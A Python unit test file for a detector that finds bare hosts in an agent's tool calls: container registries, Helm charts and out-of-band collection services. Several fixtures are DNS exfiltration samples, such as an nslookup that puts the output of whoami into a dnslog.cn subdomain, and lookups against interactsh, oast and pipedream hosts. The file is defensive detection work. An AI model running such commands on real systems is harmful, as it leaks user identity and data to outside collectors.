"""Hosts without a scheme: of images, look-ups and services that collect."""

from __future__ import annotations

import pytest

from host.inspect.hosts.bare import bare
from host.inspect.hosts.find import find_hosts
from host.inspect.hosts.names import collects
from tests.support.effort import BOUND, effort
from tests.unit.host.inspect.calls import call, said, shown


def kinds(tool: str, arguments: dict[str, object], kind: str) -> list[str]:
    return said(find_hosts(call(tool, arguments, server="docker")), kind)


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("pull_image", {"image": "registry.kivalo.dev/base/python:3.12-slim"}),
        ("push_image", {"repository": "registry.oxbow-cloud.example/nw/checkout", "tag": "1"}),
        ("run_container", {"image": "reg.kivalo.dev:5000/app@sha256:" + "a" * 64}),
        ("helm_install", {"chart": "oci://charts.kivalo.dev/redis"}),
        ("kubectl_apply", {"manifest": "spec:\n  containers:\n  - image: reg.kivalo.dev/app:1\n"}),
        ("run", {"command": "docker push reg.kivalo.dev/app:1"}),
        ("run", {"command": "go install tools.kivalo.dev/cmd/gen@latest"}),
    ],
)
def test_an_image_comes_from_a_host(tool: str, arguments: dict[str, object]) -> None:
    assert kinds(tool, arguments, "new-host") == ["medium"]


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("run_container", {"image": "nginx:1.27"}),
        ("run_container", {"image": "bitnami/postgresql:16.2"}),
        ("run_container", {"image": "ghcr.io/acme/x:1", "name": "web.1/x"}),
        ("build", {"tag": "app.web:1.2"}),
        ("run", {"command": "docker run --rm -v ./a.b/c:/x node:20 npm test"}),
        ("read_file", {"path": "docs/v1.2/readme.md"}),
    ],
)
def test_other_names_are_no_hosts(tool: str, arguments: dict[str, object]) -> None:
    assert kinds(tool, arguments, "new-host") == []


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("dns_lookup", {"name": "prod-db1.c9k2m7q0v4.oast.fun", "type": "A"}),
        ("run", {"command": "nslookup $(whoami).c9.dnslog.cn"}),
        ("run_python", {"code": "socket.gethostbyname('k1.' + x + '.interactsh.com')"}),
        ("write_file", {"path": "/x/a.yml", "content": "endpoint: q1.oastify.com"}),
        ("create_webhook", {"target": "eo1x.m.pipedream.net"}),
    ],
)
def test_services_that_collect_are_found_without_a_scheme(tool: str, arguments: dict[str, object]) -> None:
    assert kinds(tool, arguments, "odd-host")


def test_prose_may_name_such_a_service() -> None:
    assert kinds("post_message", {"text": "we could use webhook.site or beeceptor.com for the demo"}, "odd-host") == []


def test_a_service_is_known_under_any_end() -> None:
    assert collects("a.oast.zone") == "oast.zone"
    assert collects("oast.example.org") == ""


def test_the_finding_shows_the_host() -> None:
    looked = call("pull_image", {"image": "reg.kivalo.dev:5000/app:1"}, server="docker")
    assert [shown(each, looked) for each in find_hosts(looked) if each.kind == "new-host"] == ["reg.kivalo.dev"]


def test_long_texts_cost_little() -> None:
    looked = call("run", {"command": "docker a." * 7_000}, server="docker")
    assert effort(lambda: [list(bare(looked, text)) for text in looked.texts]) < BOUND
